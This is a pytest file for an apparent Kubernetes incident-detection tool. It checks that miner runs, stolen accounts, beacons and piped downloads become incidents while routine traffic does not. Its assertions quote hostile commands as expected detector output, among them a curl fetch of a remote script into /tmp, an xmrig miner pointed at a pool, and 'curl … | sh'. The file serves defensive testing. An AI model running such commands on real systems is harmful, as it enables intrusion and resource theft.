"""`kubetrail incidents` on the stories: attacks become incidents, background does not."""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

import jsonschema

from kubetrail.answers.incidents import Query, incidents
from kubetrail.answers.window import Window
from kubetrail.ingest.pipeline import Options, ingest
from kubetrail.ingest.reader import expand_paths
from kubetrail.timeutil import format_ns, parse_rfc3339
from tests.conftest import FIXTURES, ROOT, on_duckdb_only, open_test_store, run_cli

SCHEMA = json.loads((ROOT / "contract" / "incidents.schema.json").read_text())
WINDOW = Window(parse_rfc3339("2026-11-28T00:00:00Z"), parse_rfc3339("2026-11-28T12:00:00Z"))
STORIES = FIXTURES / "stories"


def ask(db: Path, *paths: Path) -> dict[str, Any]:
    store = open_test_store(db)
    ingest(store, list(expand_paths([str(p) for p in paths])), Options())
    doc = incidents(store, Query(WINDOW))
    store.close()
    jsonschema.validate(doc, SCHEMA)
    return doc


def test_a_persons_exec_shell_and_miner_are_one_high_incident(tmp_path: Path) -> None:
    (row,) = ask(tmp_path / "k.duckdb", STORIES / "processes", STORIES / "exec-session")["rows"]
    # A program run from /tmp and a mining-pool connection are high; alice is tied to them across
    # three sources, which raises the incident to critical.
    assert row["severity"] == "critical"
    assert row["actors"] == ["alice@example.com"] and row["pods"] == ["payments/api-7d9c6b5f8-x2k4j"]
    assert {"T1609", "T1059", "T1496", "T1204"} <= set(row["techniques"])
    assert [s["source"] for s in row["steps"]][:2] == ["falco", "k8s_audit"]
    tetragon = " ".join(s["summary"] for s in row["steps"] if s["source"] == "tetragon")
    assert all(b in tetragon for b in ("/bin/sh", "/usr/bin/curl", "/usr/bin/nohup", "/tmp/xmrig", "mining-pool port"))


def test_a_compromised_account_is_one_high_incident(tmp_path: Path) -> None:
    (row,) = ask(tmp_path / "k.duckdb", STORIES / "actor")["rows"]
    assert row["severity"] == "high"
    assert {"T1528", "T1613", "T1098.006"} <= set(row["techniques"])
    assert len(row["steps"]) == 5


def test_new_external_destinations_are_an_incident(tmp_path: Path) -> None:
    (row,) = ask(tmp_path / "k.duckdb", STORIES / "egress")["rows"]
    # New external destinations (T1041), one of them on a mining-pool port (T1496): high.
    assert (row["severity"], row["techniques"], row["destinations"]) == (
        "high",
        ["T1041", "T1496"],
        ["198.51.100.23", "203.0.113.99"],
    )


def test_background_does_not_become_an_incident(tmp_path: Path) -> None:
    # An operator watching Secrets cluster-wide, a person denied once, pods replaced and their IPs reused.
    assert ask(tmp_path / "k.duckdb", STORIES / "secrets", STORIES / "ip-reuse")["rows"] == []


def test_an_incidents_id_stays_the_same_as_it_grows(tmp_path: Path) -> None:
    story = STORIES / "exec-session"
    (early,) = ask(tmp_path / "k.duckdb", STORIES / "processes", story / "falco.json", story / "audit.log")["rows"]
    (grown,) = ask(tmp_path / "k.duckdb", story / "tetragon.jsonl")["rows"]
    assert early["id"] == grown["id"] and len(grown["steps"]) > len(early["steps"])


def test_incidents_can_be_narrowed_to_a_pod_or_namespace(tmp_path: Path) -> None:
    db = tmp_path / "k.duckdb"
    ask(db, STORIES / "actor", STORIES / "processes", STORIES / "exec-session")
    store = open_test_store(db, read_only=True)
    try:
        by_pod = incidents(store, Query(WINDOW, pod="shop/cart-6d4f9b7c8d-7hq4z"))["rows"]
        by_namespace = incidents(store, Query(WINDOW, namespace="payments"))["rows"]
        everything = incidents(store, Query(WINDOW))["rows"]
    finally:
        store.close()
    assert [r["pods"] for r in by_pod] == [["shop/cart-6d4f9b7c8d-7hq4z"]]
    assert [r["pods"] for r in by_namespace] == [["payments/api-7d9c6b5f8-x2k4j"]]
    assert len(everything) == 2


def test_a_severity_keeps_the_incidents_at_or_above_it_before_paging(tmp_path: Path) -> None:
    db = tmp_path / "k.duckdb"
    ask(db, STORIES / "actor", STORIES / "processes", STORIES / "exec-session", STORIES / "egress")
    store = open_test_store(db, read_only=True)
    try:
        everything = incidents(store, Query(WINDOW))["rows"]
        high = incidents(store, Query(WINDOW, severity="high"))["rows"]
        critical = incidents(store, Query(WINDOW, severity="critical", limit=1))
    finally:
        store.close()
    assert sorted(r["severity"] for r in everything) == ["critical", "high"]
    assert high == everything
    # The one critical incident is the whole answer: no further page of filtered-out rows.
    assert [r["id"] for r in critical["rows"]] == [r["id"] for r in everything if r["severity"] == "critical"]
    assert critical["next"] is None


def test_a_simulated_clusters_background_is_not_an_incident(tmp_path: Path) -> None:
    """Hours of ordinary traffic from every source: controllers and operators reading Secrets,
    kubelets requesting tokens, benign Falco rules firing all day, an SRE's diagnostic exec."""
    from kubetrail.simulate.run import simulate
    from kubetrail.timeutil import NS

    simulate(tmp_path / "sim", seed=11, hours=3, events=12_000)
    store = open_test_store(tmp_path / "k.duckdb")
    summary = ingest(store, list(expand_paths([str(tmp_path / "sim")])), Options())
    (newest,) = store.query("newest_event")
    doc = incidents(store, Query(Window(newest["newest"] - 24 * 3600 * NS, newest["newest"] + 1)))
    store.close()
    assert summary.quarantined == 0 and len(summary.ingested) == 5
    assert doc["rows"] == [], [r["title"] for r in doc["rows"]]
    assert any("routine alerts left out" in g for g in doc["gaps"])


def test_a_steady_channel_to_the_outside_is_a_high_incident(tmp_path: Path) -> None:
    # The beacon story: one pod reaches 198.51.100.40 every ~10 min (each connection seen as two
    # flows), 203.0.113.80 at irregular times, and redis every 5 min. No baseline exists, so only
    # the rhythm speaks: the steady external channel is an incident; the irregular external
    # traffic and the steady internal probe are not.
    (row,) = ask(tmp_path / "k.duckdb", STORIES / "beacon")["rows"]
    assert (row["severity"], row["techniques"], row["destinations"]) == ("high", ["T1029", "T1041"], ["198.51.100.40"])
    assert row["pods"] == ["payments/payments-worker-5f7b9c4d6-q8r2t"]
    assert "7 times, every 10.0 min" in row["steps"][0]["summary"]


def test_a_shell_an_http_request_spawned_names_the_request_and_its_end_user(tmp_path: Path) -> None:
    (row,) = ask(tmp_path / "k.duckdb", STORIES / "http-exploit")["rows"]
    # `sh -c "curl … | sh"` is a piped download (high), tied to the request's end user through the
    # span covering it; every signal is Tetragon's, so nothing raises it further.
    assert (row["severity"], row["actors"]) == ("high", ["mallory@example.net"])
    assert {"T1105", "T1059.004"} <= set(row["techniques"])
    shell = next(s for s in row["steps"] if "a download piped into a shell" in s["summary"])
    assert "during request /api/upload, trace 0af7651916cd43dd8448eb211c80319c" in shell["summary"]


@on_duckdb_only
def test_on_a_terminal_an_incident_reads_as_a_story(tmp_path: Path) -> None:
    db = tmp_path / "k.duckdb"
    ask(db, STORIES / "processes", STORIES / "exec-session")
    out = run_cli("incidents", "--at", "2026-11-28T12:00:00Z", "--since", "12h", "-o", "table", db=db)
    assert out.returncode == 0, out.stderr
    lines = out.stdout.decode().splitlines()
    assert lines[0].startswith("[CRITICAL] alice@example.com: ")
    assert "  who: alice@example.com" in lines and "  pods: payments/api-7d9c6b5f8-x2k4j" in lines
    attack = next(line for line in lines if line.startswith("  ATT&CK: "))
    assert "T1609 Container Administration Command" in attack and "T1496 Resource Hijacking" in attack
    assert lines[1].startswith("  2026-11-28 09:59:59 .. 10:01:31 UTC  id ")
    steps = [line for line in lines[2:] if line[2:3].isdigit()]
    assert steps and [s[:14] for s in steps] == sorted(s[:14] for s in steps)  # time order
    assert any("tetragon" in s and "/tmp/xmrig" in s for s in steps)


# ---- titles and steps a person reads ----------------------------------------------------------------


def stored_summaries(db: Path, rows: list[dict[str, Any]]) -> dict[str, str]:
    store = open_test_store(db, read_only=True)
    try:
        return {s["id"]: e["summary"] for r in rows for s in r["steps"] if (e := store.get_event(s["id"])) and e["summary"]}
    finally:
        store.close()


def test_a_title_is_a_sentence_about_the_cluster_not_a_sensors_summary(tmp_path: Path) -> None:
    (row,) = ask(tmp_path / "k.duckdb", STORIES / "egress")["rows"]
    assert row["title"] == "shop/cart-6d4f9b7c8d-7hq4z connected to 198.51.100.23:3333 (pool.example.net), a mining-pool port"
    assert not any("TCP Flags" in s["summary"] for s in row["steps"])


def test_a_title_names_its_initiator_once(tmp_path: Path) -> None:
    (row,) = ask(tmp_path / "k.duckdb", STORIES / "actor")["rows"]
    actor = "system:serviceaccount:shop:cart"
    assert row["title"].startswith(f"{actor} ") and row["title"].count(actor) == 1, row["title"]
    (row,) = ask(tmp_path / "k2.duckdb", STORIES / "processes", STORIES / "exec-session")["rows"]
    assert row["title"] == (
        "alice@example.com: payments/api-7d9c6b5f8-x2k4j ran /tmp/xmrig -o pool.example.net:3333: "
        "a program in world-writable /tmp"
    )


def test_each_step_says_what_happened_where_from_the_events_fields(tmp_path: Path) -> None:
    db = tmp_path / "k.duckdb"
    rows = ask(db, STORIES / "processes", STORIES / "exec-session", STORIES / "actor", STORIES / "egress")["rows"]
    steps = [s for r in rows for s in r["steps"]]
    pod = "payments/api-7d9c6b5f8-x2k4j"
    by_source = {source: [s["summary"] for s in steps if s["source"] == source and pod in s["summary"]] for source in
                 ("falco", "k8s_audit", "tetragon")}  # fmt: skip
    assert by_source["falco"] == [f'Falco rule "Terminal shell in container" fired in {pod} (Notice)']
    assert by_source["k8s_audit"] == [f"alice@example.com create pods/exec {pod} (101): exec into a pod"]
    curl = "/usr/bin/curl -fsSL http://203.0.113.50/x.sh -o /tmp/x.sh"
    assert f"{pod} ran {curl}: not run by payments/api in its baseline" in by_source["tetragon"]
    assert f"{pod} connected to 198.51.100.23:3333, a mining-pool port, with /tmp/xmrig" in by_source["tetragon"]
    # Never a sensor's own summary of the event (Hubble's "TCP Flags: SYN", Tetragon's "process_exec ...").
    stored = stored_summaries(db, [r for r in rows if r["steps"]])
    sensed = [s for s in steps if s["source"] in ("falco", "tetragon", "hubble") and s["id"] in stored]
    assert sensed and not [s["summary"] for s in sensed if stored[s["id"]] in s["summary"]]


# ---- steady channels out: a beacon, or the workload's design ---------------------------------------

T0 = parse_rfc3339("2026-11-28T00:00:00Z")
MIN = 60 * 10**9
NODE = "shop-prod/ip-10-0-1-12.eu-west-1.compute.internal"
BUCKET = "shop-assets.s3.eu-west-1.amazonaws.com"
REDIS = "10.244.2.5"


class Flows:
    """Hubble flow lines (`hubble observe -o jsonpb`) of a small cluster, written by a test."""

    def __init__(self) -> None:
        self.lines: list[bytes] = []
        self.ips: dict[str, str] = {}

    def _endpoint(self, pod: str) -> dict[str, Any]:
        namespace, name = pod.split("/")
        workload = name.split("-")[0]
        self.ips.setdefault(pod, f"10.244.1.{len(self.ips) + 10}")
        return {"ID": 100 + len(self.ips), "identity": 40000 + len(workload), "namespace": namespace, "pod_name": name,
                "labels": [f"k8s:app={workload}", f"k8s:io.kubernetes.pod.namespace={namespace}"],
                "workloads": [{"name": workload, "kind": "Deployment"}]}  # fmt: skip

    def _add(
        self, t: int, src: dict[str, Any], dst: dict[str, Any], ips: tuple[str, str], l4: dict[str, Any], **more: Any
    ) -> None:
        flow = {"time": format_ns(t), "uuid": f"00000000-0000-4000-8000-{len(self.lines):012x}", "verdict": "FORWARDED",
                "IP": {"source": ips[0], "destination": ips[1], "ipVersion": "IPv4"}, "l4": l4, "source": src,
                "destination": dst, "node_name": NODE, "traffic_direction": "EGRESS", **more}  # fmt: skip
        self.lines.append(json.dumps({"flow": flow, "node_name": NODE, "time": flow["time"]}).encode() + b"\n")

    def lookup(self, t: int, pod: str, name: str, answers: list[str]) -> None:
        """`pod` resolves `name`; the answer arrives at `t`."""
        client = self._endpoint(pod)
        dns = {"ID": 7, "identity": 51234, "namespace": "kube-system", "pod_name": "coredns-5d78c9869d-8x7kd",
               "labels": ["k8s:k8s-app=kube-dns", "k8s:io.kubernetes.pod.namespace=kube-system"]}  # fmt: skip
        answer = {"type": "RESPONSE", "dns": {"query": name + ".", "ips": answers, "ttl": 5, "rcode": 0, "qtypes": ["A"],
                                              "rrtypes": ["A"], "observation_source": "proxy"}}  # fmt: skip
        self._add(t, dns, client, ("10.244.1.2", self.ips[pod]), {"UDP": {"source_port": 53, "destination_port": 40001}},
                  Type="L7", l7=answer, event_type={"type": 129}, is_reply=True,
                  Summary=f"DNS Answer (Proxy {name}. A)")  # fmt: skip

    def connect(self, t: int, pod: str, ip: str, port: int = 443) -> None:
        """A TCP SYN from `pod` to `ip` (outside the cluster unless it is redis's)."""
        dst = {"identity": 2, "labels": ["reserved:world"]} if ip != REDIS else self._endpoint("shop/redis-0")
        self._add(t, self._endpoint(pod), dst, (self.ips[pod], ip),
                  {"TCP": {"source_port": 40000 + len(self.lines) % 20000, "destination_port": port, "flags": {"SYN": True}}},
                  Type="L3_L4", event_type={"type": 4, "sub_type": 3}, is_reply=False, Summary="TCP Flags: SYN")  # fmt: skip

    def every(self, pod: str, start: int, end: int, period: int, name: str | None, answers: list[str], seed: int,
              jitter: float = 0.05) -> None:  # fmt: skip
        """`pod` reaches `name` (or the address) from `start` to `end`, every `period` give or take `jitter` of it."""
        rng, t = random.Random(seed), start
        while t < end:
            ip = rng.choice(answers)
            if name is not None:
                self.lookup(t, pod, name, [ip] if len(answers) > 3 else answers)
            self.connect(t + 2_000_000, pod, ip)
            t += int(period * rng.uniform(1 - jitter, 1 + jitter))

    def busy(self, pod: str, start: int, end: int) -> None:
        """`pod` serves its requests: it calls redis now and then, from `start` to `end`."""
        rng, t = random.Random(pod), start
        while t < end:
            self.connect(t, pod, REDIS, 6379)
            t += int(rng.expovariate(1 / (4 * MIN)))

    def ask(self, tmp_path: Path, since: int = T0, until: int = T0 + 12 * 60 * MIN) -> list[dict[str, Any]]:
        path = tmp_path / "hubble.json"
        path.write_bytes(b"".join(self.lines))
        store = open_test_store(tmp_path / "k.duckdb")
        try:
            assert ingest(store, [str(path)], Options()).quarantined == 0
            doc = incidents(store, Query(Window(since, until)))
        finally:
            store.close()
        jsonschema.validate(doc, SCHEMA)
        self.gaps: list[str] = doc["gaps"]
        rows: list[dict[str, Any]] = doc["rows"]
        return rows

    def routine(self) -> list[str]:
        """What the last answer left out as routine steady channels, and why."""
        return [g.removeprefix("routine steady channel left out: ") for g in self.gaps if g.startswith("routine steady")]


CART = ["shop/cart-6d4f9b7c8d-7hq4z", "shop/cart-6d4f9b7c8d-x2k4j", "shop/cart-6d4f9b7c8d-p9fzv"]


def syncing(flows: Flows, pods: list[str], start: int, end: int, address: str = "52.218.40.17") -> Flows:
    """Every pod syncs to the bucket (one address, named by DNS) every 30 min and serves requests."""
    for i, pod in enumerate(pods):
        flows.every(pod, start + i * 7 * MIN, end, 30 * MIN, BUCKET, [address], seed=i)
        flows.busy(pod, start, end)
    return flows


def test_a_sync_every_replica_keeps_to_a_bucket_another_workload_also_reaches_is_no_incident(tmp_path: Path) -> None:
    # The healthy day: each replica's steady sync was its own high incident. Another workload
    # writing to the same bucket says it is the design, without any baseline.
    flows = syncing(Flows(), CART, T0, T0 + 8 * 60 * MIN)
    flows.every("shop/frontend-7c9d8b6f5d-q8r2t", T0 + 60 * MIN, T0 + 5 * 60 * MIN, 97 * MIN, BUCKET, ["52.218.40.17"], seed=9,
                jitter=0.6)  # fmt: skip
    assert flows.ask(tmp_path) == []
    (why,) = flows.routine()  # said, not silently dropped
    assert why.startswith(f"shop/cart to {BUCKET}:443 every 30.")
    assert why.endswith("(its 3 pods keep it; shop/frontend reaches it too)")


def test_a_sync_the_workload_kept_before_the_window_is_no_incident_with_two_hours_of_history(tmp_path: Path) -> None:
    flows = syncing(Flows(), CART, T0, T0 + 10 * 60 * MIN)
    assert flows.ask(tmp_path, since=T0 + 2 * 60 * MIN) == []  # the store holds 2 h before the window, not a day
    assert [w.rpartition("; ")[2] for w in flows.routine()] == ["shop/cart reached it before the window)"]


def test_a_sync_kept_across_a_rollout_is_no_incident(tmp_path: Path) -> None:
    new = ["shop/cart-5f7b9c4d6b-q8r2t", "shop/cart-5f7b9c4d6b-fghjk"]
    one, both = tmp_path / "one", tmp_path / "both"
    one.mkdir(), both.mkdir()
    # One version alone, nothing else reaching the bucket and no history: nothing says it is the design.
    assert [r["severity"] for r in syncing(Flows(), CART[:2], T0, T0 + 4 * 60 * MIN).ask(one)] == ["high"]
    flows = syncing(syncing(Flows(), CART[:2], T0, T0 + 4 * 60 * MIN), new, T0 + 4 * 60 * MIN, T0 + 8 * 60 * MIN)
    assert flows.ask(both) == []
    assert [w.rpartition("; ")[2] for w in flows.routine()] == ["pods of several versions of shop/cart reach it)"]


def test_every_replica_of_a_new_version_calling_a_new_domain_is_one_high_incident(tmp_path: Path) -> None:
    # A backdoored image: the release's replicas call home every ~5 min (±20 %) through a CDN that
    # answers one of three addresses; the old version never did, nothing else reaches the domain.
    old, new = CART[:2], ["shop/cart-5f7b9c4d6b-q8r2t", "shop/cart-5f7b9c4d6b-fghjk", "shop/cart-5f7b9c4d6b-zz5kx"]
    flows, cdn = Flows(), ["198.51.100.7", "198.51.100.8", "198.51.100.9", "198.51.100.10"]
    for pod in old:
        flows.busy(pod, T0, T0 + 3 * 60 * MIN)
    for i, pod in enumerate(new):
        flows.busy(pod, T0 + 3 * 60 * MIN, T0 + 8 * 60 * MIN)
        flows.every(pod, T0 + 3 * 60 * MIN + i * MIN, T0 + 8 * 60 * MIN, 5 * MIN, "cdn.qzvkpx.com", cdn, seed=i, jitter=0.2)
    (row,) = flows.ask(tmp_path)
    assert (row["severity"], row["pods"], row["techniques"]) == ("high", sorted(new), ["T1029", "T1041"])
    assert set(row["destinations"]) == set(cdn) and len(row["steps"]) == 3
    assert all("cdn.qzvkpx.com:443 (" in s["summary"] and "3 pods of shop/cart keep" in s["summary"] for s in row["steps"])


def test_one_pod_keeping_a_channel_its_siblings_do_not_is_high_though_others_reach_the_destination(tmp_path: Path) -> None:
    flows = Flows()
    for pod in CART:
        flows.busy(pod, T0, T0 + 6 * 60 * MIN)
    flows.every(CART[0], T0, T0 + 2 * 60 * MIN, 10 * MIN, "files.example.org", ["203.0.113.44"], seed=1)
    flows.every("shop/frontend-7c9d8b6f5d-q8r2t", T0, T0 + 6 * 60 * MIN, 50 * MIN, "files.example.org", ["203.0.113.44"],
                seed=2, jitter=0.7)  # fmt: skip
    (row,) = flows.ask(tmp_path)
    assert (row["severity"], row["pods"], row["destinations"]) == ("high", [CART[0]], ["203.0.113.44"])
    assert row["title"].startswith(f"{CART[0]} connected to files.example.org:443 (203.0.113.44) 12 times, every 10.")
    assert row["title"].endswith("a steady channel out that no other pod of shop/cart keeps")


def test_a_beacon_keeps_its_incident_id_as_the_window_moves_along_it(tmp_path: Path) -> None:
    # serve's alert engine told one beacon twice: the incident's id came from its first connection
    # in the window, and once that had left the window the rest of the beacon was a new incident.
    flows = Flows()
    for pod in CART:
        flows.busy(pod, T0, T0 + 4 * 60 * MIN)
    flows.every(CART[0], T0 + 5 * MIN, T0 + 4 * 60 * MIN, 10 * MIN, None, ["203.0.113.44"], seed=1)
    first = flows.ask(tmp_path, T0, T0 + 60 * MIN)
    later = flows.ask(tmp_path, T0 + 90 * MIN, T0 + 150 * MIN)
    (a,), (b,) = first, later
    assert a["steps"][0]["id"] != b["steps"][0]["id"]  # the window's first connection differs ...
    assert (a["id"], a["pods"], a["severity"]) == (b["id"], b["pods"], b["severity"]) == (a["id"], [CART[0]], "high")


def test_siblings_that_reach_the_destination_too_few_times_for_a_rhythm_yet_share_the_channel(tmp_path: Path) -> None:
    # What a live look sees: the first replica's sixth connection, its siblings (started later)
    # at their first few. They share the channel, and another workload reaches the destination:
    # routine, as the same channel is an hour later when every replica keeps the rhythm.
    flows = Flows()
    for pod in CART:
        flows.busy(pod, T0, T0 + 2 * 60 * MIN)
    flows.every(CART[0], T0, T0 + 2 * 60 * MIN, 10 * MIN, "files.example.org", ["203.0.113.44"], seed=1)
    flows.every(CART[1], T0 + 35 * MIN, T0 + 2 * 60 * MIN, 10 * MIN, "files.example.org", ["203.0.113.44"], seed=2)
    flows.every("shop/frontend-7c9d8b6f5d-q8r2t", T0, T0 + 2 * 60 * MIN, 50 * MIN, "files.example.org", ["203.0.113.44"],
                seed=3, jitter=0.7)  # fmt: skip
    assert flows.ask(tmp_path, until=T0 + 53 * MIN) == []
    (why,) = flows.routine()
    assert why.endswith("(one pod keeps it, 1 other pod reaches it; shop/frontend reaches it too)"), why


def test_a_single_replica_keeping_a_check_another_workload_also_keeps_is_no_incident(tmp_path: Path) -> None:
    flows = Flows()
    for pod, seed in (("monitoring/grafana-6b7c8d9f4d-kq2zt", 1), ("shop/cart-6d4f9b7c8d-7hq4z", 2)):
        flows.every(pod, T0, T0 + 9 * 60 * MIN, 60 * MIN, "license.example.io", ["34.102.7.7"], seed=seed, jitter=0.01)
    assert flows.ask(tmp_path) == []
